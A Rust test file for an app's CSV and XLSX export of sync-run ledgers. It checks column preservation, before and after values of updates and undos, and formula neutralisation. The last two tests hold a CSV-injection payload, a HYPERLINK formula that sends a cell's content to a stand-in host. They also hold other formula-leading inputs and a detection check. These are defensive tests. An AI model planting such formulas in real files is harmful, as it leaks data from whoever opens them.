//! The saved ledger holds the whole list, what an update changed, and nothing that a spreadsheet would run.

use std::path::Path;

use calamine::{Reader as _, Xlsx, open_workbook};
use engine::contract::lists::SavedFile;
use engine::contract::runs::{RunState, RunView};
use serde_json::{Value, json};
use support::{TestApp, lists};

/// A list of which ZoomInfo knows half of the columns, with cells that are hard to write into a file.
const WITH_EXTRAS: &str = "Sales Territory,ZoomInfo Contact ID,Last Name,First Name,Account Tier,Job Title,Email Address,\
Note,Company Name,Note,Größe,Alexa Rank\n\
North,700000001,Filesmarsh,Ada,A,\"Director, Plant\",ada@files-of-landbridge.com,\"said \"\"yes\"\"\",File Works,second note,groß,12\n\
,700000002,Filesroe,Bo,,Buyer,bo@files-of-landbridge.com,\"two\nlines\",File Works,,,\n\
Süd 東,700000003,Filesloe,Cy,\"B;C\",,,x,Other File Works,y,klein,0\n";

/// A file's header and rows.
struct Table {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Table {
    fn of_csv(reader: &mut csv::Reader<impl std::io::Read>) -> Self {
        let cells = |record: &csv::StringRecord| record.iter().map(str::to_owned).collect();
        Self {
            header: cells(reader.headers().unwrap()),
            rows: reader.records().map(|record| cells(&record.unwrap())).collect(),
        }
    }

    fn of_workbook(path: &Path) -> Self {
        let mut workbook: Xlsx<_> = open_workbook(path).unwrap();
        let formulas = workbook.worksheet_formula("Ledger").unwrap();
        assert_eq!(formulas.used_cells().count(), 0);
        let sheet = workbook.worksheet_range("Ledger").unwrap();
        let mut rows = sheet
            .rows()
            .map(|row| row.iter().map(ToString::to_string).collect());
        Self {
            header: rows.next().unwrap(),
            rows: rows.collect(),
        }
    }

    fn column(&self, name: &str) -> Vec<&str> {
        let place = self.header.iter().position(|header| header == name);
        let place = place.unwrap_or_else(|| panic!("no column {name}: {:?}", self.header));
        self.rows.iter().map(|row| row[place].as_str()).collect()
    }

    /// The columns at the end: those of the list.
    fn last_columns(&self, columns: usize) -> Vec<&[String]> {
        let first = self.header.len() - columns;
        self.rows.iter().map(|row| &row[first..]).collect()
    }
}

async fn saved(app: &TestApp, run: i64, format: &str) -> Table {
    let to = app.workspace().join(format!("ledger-{run}.{format}"));
    app.host.answer_save(Some(to.clone()));
    let file: Option<SavedFile> = app
        .call("runs.save_ledger", json!({ "run": run, "format": format }))
        .await;
    let table = if format == "csv" {
        Table::of_csv(&mut csv::Reader::from_path(&to).unwrap())
    } else {
        Table::of_workbook(&to)
    };
    assert_eq!(file.unwrap().rows as usize, table.rows.len());
    table
}

async fn exported(app: &TestApp, text: &str) -> i64 {
    let list = app.import(&app.file("people.csv", text), "People").await.list;
    let done = app.send(app.plan("lead", list.list_id).await.summary.run).await;
    assert_eq!(done.summary.state, RunState::Done, "{done:?}");
    done.summary.run
}

async fn assert_holds_the_list(app: &TestApp, run: i64) {
    let source = Table::of_csv(&mut csv::Reader::from_reader(WITH_EXTRAS.as_bytes()));
    let mut names = source.header.clone();
    // A column's name is unique, so that each is known from the other.
    "Note 2".clone_into(&mut names[9]);
    for format in ["csv", "xlsx"] {
        let table = saved(app, run, format).await;
        assert!(
            table.header.ends_with(&names),
            "{format}: {names:?} is not the end of {:?}",
            table.header
        );
        let rows: Vec<&[String]> = source.rows.iter().map(Vec::as_slice).collect();
        assert_eq!(table.last_columns(names.len()), rows, "{format}");
    }
}

#[tokio::test]
async fn the_saved_ledger_has_every_column_and_value_of_the_list_known_to_zoominfo_or_not() {
    let app = TestApp::connected().await;
    let run = exported(&app, WITH_EXTRAS).await;
    assert_holds_the_list(&app, run).await;
}

#[tokio::test]
async fn a_ledger_has_its_lists_columns_also_after_the_list_was_deleted() {
    let app = TestApp::connected().await;
    let list = app
        .import(&app.file("people.csv", WITH_EXTRAS), "People")
        .await
        .list;
    let run = app.send(app.plan("lead", list.list_id).await.summary.run).await;
    let _: Value = app.call("lists.delete", json!({ "list_id": list.list_id })).await;
    assert_holds_the_list(&app, run.summary.run).await;
}

#[tokio::test]
async fn the_accounts_of_a_run_of_contacts_stand_beside_the_contact_they_were_made_for() {
    let app = TestApp::connected().await;
    let list = app
        .import(&app.file("people.csv", WITH_EXTRAS), "People")
        .await
        .list;
    let planned = app.plan("contact", list.list_id).await;
    let answers = json!({ "run": planned.summary.run, "on_ask": "default" });
    let _: RunView = app.call("runs.answer_all", answers).await;
    let run = app.send(planned.summary.run).await.summary.run;
    let table = saved(&app, run, "csv").await;
    let told: Vec<(&str, &str)> = table
        .column("Object")
        .into_iter()
        .zip(table.column("Sales Territory"))
        .collect();
    assert_eq!(
        told,
        [
            ("Contact", "North"),
            ("Contact", ""),
            ("Contact", "Süd 東"),
            ("Account", "North"),
            ("Account", "Süd 東")
        ]
    );
}

/// The values of a cell of the columns Before and After, by field.
fn values(cell: &str) -> Vec<(&str, &str)> {
    cell.lines().map(|line| line.split_once(": ").unwrap()).collect()
}

/// What a record holds in the fields that a cell is about, as that cell tells it.
fn held<'a>(record: &'a Value, cell: &'a str) -> Vec<(&'a str, &'a str)> {
    values(cell)
        .into_iter()
        .map(|(field, _)| (field, record[field].as_str().unwrap_or("(blank)")))
        .collect()
}

async fn overwrite_titles(app: &TestApp) {
    let mapping: Value = app.call("mapping.show", json!({ "object": "lead" })).await;
    let mut rows = mapping["rows"].clone();
    for row in rows.as_array_mut().unwrap() {
        if row["target"] == "Title" {
            row["on_update"] = json!("overwrite");
        }
    }
    let changed =
        json!({ "object": "lead", "rows": rows, "based_on_version": mapping["version"], "note": "" });
    let _: Value = app.call("mapping.save", changed).await;
}

#[tokio::test]
async fn the_saved_ledger_tells_the_values_before_and_after_of_an_update_and_of_its_undo() {
    let app = TestApp::connected().await;
    overwrite_titles(&app).await;
    let org = app.records();
    let known = json!({ "FirstName": "Ada", "LastName": "Beforemarsh", "Company": "File Works", "Title": "Somebody",
        "Email": "ada@before-of-landbridge.com" });
    let id = org.create("Lead", known).await;
    let row = [
        ("Last Name", "Beforemarsh"),
        ("First Name", "Ada"),
        ("Job Title", "Director: Plant"),
        ("Email Address", "ada@before-of-landbridge.com"),
        ("Mobile phone", "5550107711"),
        ("Company Name", "File Works"),
    ];
    let before = org.get("Lead", &id).await;
    let run = exported(&app, &lists::contacts_with(&[&row])).await;
    let after = org.get("Lead", &id).await;

    for format in ["csv", "xlsx"] {
        let table = saved(&app, run, format).await;
        assert_eq!(
            (table.column("Outcome"), table.column("Salesforce Id")),
            (vec!["Updated"], vec![id.as_str()])
        );
        let (was, is) = (table.column("Before")[0], table.column("After")[0]);
        assert!(values(was).contains(&("Title", "Somebody")), "{was}");
        assert!(values(is).contains(&("Title", "Director: Plant")), "{is}");
        assert!(values(was).contains(&("MobilePhone", "(blank)")), "{was}");
        assert_eq!(values(was), held(&before, was), "{format}");
        assert_eq!(values(is), held(&after, is), "{format}");
        let fields = |cell| -> Vec<&str> { values(cell).into_iter().map(|(field, _)| field).collect() };
        assert_eq!(fields(was), fields(is), "{format}");
    }

    let undo: RunView = app.call("runs.plan_undo", json!({ "run": run })).await;
    let undone = app.send(undo.summary.run).await.summary;
    assert_eq!(undone.tally.restored_records, 1, "{undone:?}");
    let table = saved(&app, undone.run, "csv").await;
    let (was, is) = (table.column("Before")[0], table.column("After")[0]);
    assert!(values(was).contains(&("Title", "Director: Plant")), "{was}");
    assert_eq!(values(was), held(&after, was));
    assert_eq!(values(is), held(&before, is));
}

const FORMULA: &str = "=HYPERLINK(\"http://files.example?\"&A1,\"Open\")";

fn starts_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[tokio::test]
async fn no_cell_of_a_saved_csv_begins_like_a_formula_and_each_is_still_told() {
    let app = TestApp::connected().await;
    let quoted = FORMULA.replace('"', "\"\"");
    let text = format!(
        "ZoomInfo Contact ID,Last Name,First Name,Job Title,Company Name,Minus,At,Tab\n\
         700000001,Formulamarsh,+Ada,\"{quoted}\",\"{quoted}\",-2+3,@SUM(A1),\"\t=1+1\"\n\
         700000002,Formularoe,Bo,1=1,Plain-Works+Co,a-b,a@b,a\tb\n"
    );
    let run = exported(&app, &text).await;
    let table = saved(&app, run, "csv").await;
    let running: Vec<&String> = table
        .rows
        .iter()
        .flatten()
        .filter(|cell| starts_a_formula(cell))
        .collect();
    assert_eq!(running, Vec::<&String>::new());
    let harmless = format!("'{FORMULA}");
    for name in ["Company", "Company Name", "Job Title"] {
        assert_eq!(table.column(name)[0], harmless, "{name}");
    }
    assert!(table.column("Name")[0].starts_with("'+Ada"));
    // White space around a value is taken off when the list is imported.
    for (name, cells) in [
        ("First Name", ["'+Ada", "Bo"]),
        ("Minus", ["'-2+3", "a-b"]),
        ("At", ["'@SUM(A1)", "a@b"]),
        ("Tab", ["'=1+1", "a\tb"]),
    ] {
        assert_eq!(table.column(name), cells);
    }
    let workbook = saved(&app, run, "xlsx").await;
    assert_eq!(
        workbook.column("Company Name"),
        [FORMULA, "Plain-Works+Co"],
        "a workbook needs no apostrophe"
    );
}

#[tokio::test]
async fn names_of_a_lists_columns_that_begin_like_formulas_are_made_harmless_too() {
    let app = TestApp::connected().await;
    let quoted = FORMULA.replace('"', "\"\"");
    let text = format!(
        "ZoomInfo Contact ID,Last Name,Company Name,\"{quoted}\",@Owner\n700000001,Headermarsh,File Works,a,b\n"
    );
    let run = exported(&app, &text).await;
    let table = saved(&app, run, "csv").await;
    assert_eq!(table.last_columns(2), [["a", "b"]]);
    let running: Vec<&String> = table
        .header
        .iter()
        .filter(|cell| starts_a_formula(cell))
        .collect();
    assert_eq!(running, Vec::<&String>::new());
}
